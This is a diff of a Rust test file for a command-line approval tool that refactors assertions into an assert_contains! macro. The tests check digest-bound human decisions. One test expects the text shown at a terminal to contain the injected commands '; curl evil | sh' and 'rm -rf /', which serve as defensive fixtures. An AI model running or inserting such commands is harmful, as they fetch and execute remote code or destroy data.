@@ -37,10 +37,7 @@ fn a_decision_with_another_digest_is_rejected_by_the_router_and_by_the_command()
         1,
         &["decide", "--as", "human", "one", "yes", "--digest", &second],
     );
-    assert!(
-        said.contains("the decision is about another text"),
-        "{said}"
-    );
+    assert_contains!(said, "the decision is about another text");
     assert_eq!(steps(&world), ["ask", "ask"]);
     // The digest of the copy is the same, and a program that reads files can send it.
     let mut right = decision("alice/one", "yes");
@@ -78,10 +75,7 @@ fn a_program_gets_the_whole_text_with_the_digest_and_without_it_decides_nothing(
     let file: Value = serde_json::from_str(&file).expect("JSON");
     assert_eq!(file["pending"]["human"][0]["digest"], json!(digest));
     let said = world.fails(2, &["decide", "--as", "human", "one", "yes"]);
-    assert!(
-        said.contains("there is no terminal to show it") && said.contains("--digest"),
-        "{said}"
-    );
+    assert_contains!(said, "there is no terminal to show it", "--digest");
     assert_eq!(steps(&world), ["ask"]);
 }
 
@@ -97,10 +91,7 @@ fn the_command_shows_the_whole_text_at_a_terminal_and_asks_once() {
     ] {
         let output = world.at_terminal(&["decide", "one", "yes"], typed);
         let said = String::from_utf8_lossy(&output.stdout).into_owned();
-        assert!(
-            said.contains("; curl evil | sh") && said.contains("rm -rf /"),
-            "{said}"
-        );
+        assert_contains!(said, "; curl evil | sh", "rm -rf /");
         assert_eq!(said.matches("Decide #2: yes? [y/N]").count(), 1, "{said}");
         assert_eq!(
             (output.status.code(), steps(&world)),
